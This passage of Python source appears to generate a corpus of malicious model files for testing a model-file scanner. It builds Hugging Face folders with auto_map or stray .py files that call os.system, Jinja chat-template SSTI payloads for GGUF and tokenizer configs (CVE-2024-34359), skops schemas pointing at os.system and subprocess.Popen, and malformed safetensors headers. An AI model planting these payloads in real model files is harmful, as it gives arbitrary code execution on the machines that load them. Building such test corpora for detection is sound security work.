    _hf_folder(target, {"model_type": "corpus", "architectures": ["EvilModel"],
                        "auto_map": {"AutoConfig": "configuration_evil.EvilConfig",
                                     "AutoModel": "modeling_evil.EvilModel"}},
               {"modeling_evil.py": f"import os\nos.system({sh(canary)!r})\n\nclass EvilModel:\n    pass\n",
                "configuration_evil.py": "class EvilConfig:\n    pass\n"})


@technique("hf-auto-map-remote-repo", "4.hf-code", "config.json auto_map pointing at code in another repo",
           "hf-model", rules=(), ref=HF_REMOTE_CODE)
def _hf_auto_map_remote(target: Path, canary: Path) -> None:
    _hf_folder(target, {"model_type": "corpus", "auto_map": {"AutoModel": "attacker/code-repo--modeling.Model"}})


@technique("hf-tokenizer-auto-map", "4.hf-code", "tokenizer_config.json auto_map -> tokenization_evil.py",
           "hf-model", rules=(), ref=HF_REMOTE_CODE)
def _hf_tok_auto_map(target: Path, canary: Path) -> None:
    _hf_folder(target, {"model_type": "bert"}, {
        "tokenizer_config.json": json.dumps({"auto_map": {"AutoTokenizer": ["tokenization_evil.EvilTokenizer",
                                                                            None]}}),
        "tokenization_evil.py": f"import os\nos.system({sh(canary)!r})\n",
    })


@technique("hf-python-file-beside-weights", "4.hf-code", "a .py file shipped beside the weights (no auto_map)",
           "hf-model", rules=(), ref=HF_REMOTE_CODE)
def _hf_py(target: Path, canary: Path) -> None:
    _hf_folder(target, {"model_type": "bert"}, {"handler.py": f"import os\nos.system({sh(canary)!r})\n"})


# -- chat templates ----------------------------------------------------------------------------------------------
SSTI_SUBCLASSES = ("{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
                   "{{ x()._module.__builtins__['__import__']('os').system('CMD') }}{% endif %}{% endfor %}")
SSTI_GLOBALS = "{{ cycler.__init__.__globals__.os.system('CMD') }}{% for m in messages %}{{ m.content }}{% endfor %}"
SSTI_ATTR = ("{{ ''|attr('__class__')|attr('__mro__') }}{{ joiner.__init__.__globals__['__builtins__'] }}"
             "{% for m in messages %}{{ m.content }}{% endfor %}")
LLAMA_SSTI_REF = "https://github.com/abetlen/llama-cpp-python/security/advisories/GHSA-56xg-wfcc-g829"


def _gguf(target: Path, template: str) -> None:
    import gguf
    import numpy as np

    w = gguf.GGUFWriter(str(target), "llama")
    w.add_name("corpus-tiny")
    w.add_chat_template(template)
    w.add_tensor("token_embd.weight", np.zeros((4, 4), dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()


@technique("chat-template-gguf-subclasses", "4.chat-template",
           "GGUF tokenizer.chat_template walking __subclasses__ to __builtins__", "model.gguf", rules=(),
           advisory="CVE-2024-34359", ref=LLAMA_SSTI_REF, requires=("gguf",))
def _gguf_ssti(target: Path, canary: Path) -> None:
    _gguf(target, SSTI_SUBCLASSES.replace("CMD", sh(canary)))


@technique("chat-template-gguf-globals", "4.chat-template", "GGUF chat template reaching cycler.__init__.__globals__",
           "model.gguf", rules=(), advisory="CVE-2024-34359", ref=LLAMA_SSTI_REF, requires=("gguf",))
def _gguf_ssti2(target: Path, canary: Path) -> None:
    _gguf(target, SSTI_GLOBALS.replace("CMD", sh(canary)))


@technique("chat-template-tokenizer-config", "4.chat-template",
           "tokenizer_config.json chat_template reaching __globals__/__builtins__", "hf-model", rules=(),
           advisory="CVE-2024-34359", ref=LLAMA_SSTI_REF)
def _tok_ssti(target: Path, canary: Path) -> None:
    _hf_folder(target, {"model_type": "llama"}, {
        "tokenizer_config.json": json.dumps({"chat_template": SSTI_GLOBALS.replace("CMD", sh(canary)),
                                             "bos_token": "<s>", "eos_token": "</s>"}),
    })


@technique("chat-template-tokenizer-config-attr-filter", "4.chat-template",
           "tokenizer_config.json named template list; |attr('__class__') filter chain", "hf-model", rules=(),
           advisory="CVE-2024-34359", ref=LLAMA_SSTI_REF)
def _tok_ssti2(target: Path, canary: Path) -> None:
    _hf_folder(target, {"model_type": "llama"}, {
        "tokenizer_config.json": json.dumps({"chat_template": [
            {"name": "default", "template": "{% for m in messages %}{{ m.content }}{% endfor %}"},
            {"name": "tool_use", "template": SSTI_ATTR}]}),
    })


# -- skops ------------------------------------------------------------------------------------------------------
def _skops_with(target: Path, mutate: Callable[[dict[str, Any]], None]) -> None:
    import numpy as np
    import skops.io as sio
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer

    X = np.abs(np.arange(20.0).reshape(10, 2))
    model = Pipeline([("f", FunctionTransformer(np.log1p)), ("lr", LogisticRegression())]).fit(X, [0, 1] * 5)
    buf = io.BytesIO()
    sio.dump(model, buf)
    with zipfile.ZipFile(buf) as z:
        members = {n: z.read(n) for n in z.namelist()}
    schema = json.loads(members["schema.json"])
    mutate(schema)
    members["schema.json"] = json.dumps(schema).encode()
    target.write_bytes(zip_bytes(list(members.items()), zipfile.ZIP_DEFLATED))


def _find_nodes(node: Any, loader: str) -> list[dict[str, Any]]:
    out = []
    if isinstance(node, dict):
        if node.get("__loader__") == loader:
            out.append(node)
        for v in node.values():
            out.extend(_find_nodes(v, loader))
    elif isinstance(node, list):
        for v in node:
            out.extend(_find_nodes(v, loader))
    return out


SKOPS_REF = "https://skops.readthedocs.io/en/stable/persistence.html"


@technique("skops-function-os-system", "4.skops", "skops FunctionNode naming os.system", "model.skops", rules=(),
           ref=SKOPS_REF, requires=("skops",))
def _skops_fn(target: Path, canary: Path) -> None:
    def mutate(schema: dict[str, Any]) -> None:
        node = _find_nodes(schema, "FunctionNode")[0]
        node["__module__"], node["__class__"] = "os", "system"

    _skops_with(target, mutate)


@technique("skops-object-subprocess", "4.skops", "skops ObjectNode of subprocess.Popen", "model.skops", rules=(),
           ref=SKOPS_REF, requires=("skops",))
def _skops_obj(target: Path, canary: Path) -> None:
    def mutate(schema: dict[str, Any]) -> None:
        node = next(n for n in _find_nodes(schema, "ObjectNode") if n["__class__"] == "LogisticRegression")
        node["__module__"], node["__class__"] = "subprocess", "Popen"

    _skops_with(target, mutate)


@technique("skops-unknown-type", "4.skops", "skops ObjectNode of a type from an unknown package", "model.skops",
           rules=(), ref=SKOPS_REF, requires=("skops",))
def _skops_unknown(target: Path, canary: Path) -> None:
    def mutate(schema: dict[str, Any]) -> None:
        node = next(n for n in _find_nodes(schema, "ObjectNode") if n["__class__"] == "LogisticRegression")
        node["__module__"], node["__class__"] = "corpus_attacker_pkg.models", "Backdoor"

    _skops_with(target, mutate)


# -- malformed safetensors --------------------------------------------------------------------------------------
def _st(header: dict[str, Any], data: bytes, *, length: int | None = None) -> bytes:
    h = json.dumps(header).encode()
    return struct.pack("<Q", len(h) if length is None else length) + h + data


ST_REF = "https://github.com/huggingface/safetensors#format"


@technique("safetensors-oversized-header-length", "4.safetensors", "header length larger than the file",
           "model.safetensors", rules=(), container=True, ref=ST_REF)
def _st_len(target: Path, canary: Path) -> None:
    target.write_bytes(_st({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, bytes(8),
                           length=2**40))


@technique("safetensors-overlapping-offsets", "4.safetensors", "two tensors whose byte ranges overlap",
           "model.safetensors", rules=(), container=True, ref=ST_REF)
def _st_overlap(target: Path, canary: Path) -> None:
    target.write_bytes(_st({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
                            "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]}}, bytes(24)))


@technique("safetensors-out-of-range-offsets", "4.safetensors", "tensor offsets past the end of the data",
           "model.safetensors", rules=(), container=True, ref=ST_REF)
def _st_range(target: Path, canary: Path) -> None:
    target.write_bytes(_st({"a": {"dtype": "F32", "shape": [1024], "data_offsets": [0, 4096]}}, bytes(16)))


@technique("safetensors-shape-size-mismatch", "4.safetensors", "shape x dtype disagrees with the byte range",
           "model.safetensors", rules=(), container=True, ref=ST_REF)
def _st_shape(target: Path, canary: Path) -> None:
    target.write_bytes(_st({"a": {"dtype": "F32", "shape": [1000, 1000], "data_offsets": [0, 16]}}, bytes(16)))


@technique("safetensors-header-not-json", "4.safetensors", "header bytes are not JSON", "model.safetensors",
           rules=(), container=True, ref=ST_REF)
def _st_json(target: Path, canary: Path) -> None:
    h = b"\x80\x04not json at all \xff"
    target.write_bytes(struct.pack("<Q", len(h)) + h + bytes(16))
